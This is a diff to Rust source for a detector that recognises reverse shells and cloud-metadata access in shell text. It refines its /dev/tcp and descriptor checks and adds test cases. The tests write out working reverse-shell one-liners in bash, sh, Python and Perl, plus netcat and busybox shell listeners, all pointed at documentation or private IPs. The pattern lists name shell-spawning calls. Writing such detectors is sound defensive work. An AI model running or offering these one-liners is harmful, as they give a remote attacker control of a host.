@@ -3,7 +3,7 @@
 
 use bstr::{BString, ByteSlice};
 
-use super::super::vocabulary::{FETCHERS, is_interpreter, is_shell_name, is_world_writable};
+use super::super::vocabulary::{FETCHERS, is_interpreter, is_shell_name, is_world_writable, names_metadata, words_of};
 
 /// Longest text that is looked at.
 const MOST: usize = 64 << 10;
@@ -118,7 +118,7 @@ pub(super) fn signs(text: &[u8]) -> Vec<Sign> {
     if fetches {
         found.push(Sign::Fetch);
     }
-    if has("169.254.169.254") || has("metadata.google.internal") || has("fd00:ec2::254") {
+    if names_metadata(words_of(text)) {
         found.push(Sign::Metadata);
     }
     if SECRETS.iter().any(|path| has(path)) {
@@ -145,14 +145,29 @@ pub(super) fn signs(text: &[u8]) -> Vec<Sign> {
 /// How scripts open a connection.
 const OPENS: [&str; 6] = ["socket.socket(", "socket(", "IO::Socket", "TCPSocket", "net.connect(", "net.Socket("];
 /// How scripts run a shell.
-const RUNS: [&str; 8] = ["dup2(", "subprocess", "pty.spawn", "/bin/sh", "/bin/bash", "exec(", "child_process", "STDIN"];
+const RUNS: [&str; 11] = [
+    "dup2(",
+    "subprocess",
+    "pty.spawn",
+    "/bin/sh",
+    "/bin/bash",
+    "exec(",
+    "child_process",
+    "STDIN",
+    "popen(",
+    "Popen(",
+    "system(",
+];
 
 /// Whether a text hands a shell to a connection.
 fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
     let has = |needle: &str| text.contains_str(needle);
-    // `sh -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…`. A check that only opens the port redirects nothing back.
     let is_awk = has("/inet/tcp/") || has("/inet/udp/");
-    let is_bash = (has("/dev/tcp/") || has("/dev/udp/")) && (has("0>&1") || has("<&") || has("<>") || has("-i "));
+    // `sh -i >& /dev/tcp/… 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | sh >&5`. A check of a service opens the port, too, writes a
+    // request and reads the answer, but no shell takes commands from there.
+    let reads = commands.iter().any(|command| command.is_piped && command.runs_input());
+    let gives = reads && has("<&") || has("0>&1") || has("0<&1") || commands.iter().any(Command::takes_connection);
+    let is_bash = gives && connects_far(text);
     let is_netcat = commands.iter().any(|command| {
         let named = command
             .name()
@@ -227,6 +242,32 @@ fn gives_shell(text: &[u8]) -> bool {
     })
 }
 
+/// Whether a shell opens a connection that leaves the host: `/dev/tcp/HOST/PORT`.
+fn connects_far(text: &[u8]) -> bool {
+    let hosts = ["/dev/tcp/", "/dev/udp/"].into_iter().flat_map(|device| {
+        text.find_iter(device).filter_map(move |at| text.get(at.saturating_add(device.len())..)).collect::<Vec<_>>()
+    });
+    hosts.take(64).any(|host| {
+        let host = host.split(|byte| *byte == b'/' || byte.is_ascii_whitespace()).next().unwrap_or_default();
+        let is_local = matches!(host, b"localhost" | b"ip6-localhost" | b"::1" | b"[::1]" | b"0.0.0.0" | b"0")
+            || host.starts_with(b"127.");
+        !is_local
+    })
+}
+
+/// Whether a word makes the input, output or errors of a command a descriptor that the shell opened (`<&5`, `2>&$fd`), or
+/// the input what the output is (`0>&1`).
+fn takes_descriptor(word: &[u8]) -> bool {
+    let own = word.iter().take_while(|byte| byte.is_ascii_digit()).count();
+    let Some((own, rest)) = word.split_at_checked(own) else { return false };
+    let Some(target) = rest.strip_prefix(b"<&").or_else(|| rest.strip_prefix(b">&")) else { return false };
+    let is_opened = target.starts_with(b"$")
+        || target.starts_with(b"/dev/tcp/")
+        || target.starts_with(b"/dev/udp/")
+        || target.to_str().ok().and_then(|number| number.parse::<u32>().ok()).is_some_and(|number| number > 2);
+    matches!(own, b"" | b"0" | b"1" | b"2") && is_opened || own == b"0" && matches!(target, b"1" | b"2")
+}
+
 /// One command of a line: its words, and whether the one before it writes to it.
 #[derive(Debug, Default)]
 struct Command<'t> {
@@ -253,6 +294,19 @@ impl<'t> Command<'t> {
     fn is_fetch(&self) -> bool {
         let fetcher = |name: &[u8]| FETCHERS.iter().any(|fetcher| fetcher.as_bytes() == name);
         self.name().is_some_and(fetcher) || self.words.iter().any(|word| word.starts_with(b"/dev/tcp/"))
+    }
+
+    /// Whether it is a shell, or the shell itself or what it was told to run, with its input or output on a connection.
+    fn takes_connection(&self) -> bool {
+        let name = self.name().unwrap_or_default();
+        let is_runner = is_shell_name(name)
+            || name.starts_with(b"$")
+            || name == b"eval"
+            || self.words.first().is_some_and(|first| *first == b"exec");
+        let is_device = |word: &[u8]| word.starts_with(b"/dev/tcp/") || word.starts_with(b"/dev/udp/");
+        let takes = self.words.iter().any(|word| takes_descriptor(word))
+            || self.words.windows(2).any(|pair| matches!(pair, [b">&" | b"&>", device] if is_device(device)));
+        is_runner && takes
     }
 
     /// Whether it sends a file or its input to a server.
@@ -508,6 +562,12 @@ mod tests {
         for text in [
             "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
             "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+            "/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1",
+            "exec 5<>/dev/tcp/$H/4444; cat <&5 | sh >&5 2>&5",
+            "bash -i >& /dev/udp/10.0.0.1/4444",
+            "import socket,os;s=socket.socket();s.connect((h,1));s.send(os.popen(s.recv(99).decode()).read())",
+            "use Socket;socket(S,2,1,6);connect(S,$a);system(<S>)",
             "nc -e /bin/sh 203.0.113.66 4444",
             "busybox nc -ll -p 5555 -e /bin/sh",
             "busybox telnetd -F -p 2323 -l /bin/sh",
@@ -524,6 +584,10 @@ mod tests {
         for text in [
             "postgres -c unix_socket_directories=/tmp -c max_connections=8 -h 127.0.0.1; exec psql",
             "timeout 1 bash -c '</dev/tcp/db/5432'",
+            "exec 3<>/dev/tcp/localhost/9000; echo -e 'GET /health/ready HTTP/1.1' >&3; timeout 1 cat <&3 | grep -q UP",
+            "exec 3<>/dev/tcp/db/5432; echo x >&3; cat <&3",
+            "bash -c 'exec 3<>/dev/tcp/db/5432 && exec 3>&-' 2>&1",
+            "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
             "nc -z db 5432",
             "telnetd -F -l /bin/login",
             "cat report | sh format.sh | nc printer 9100",
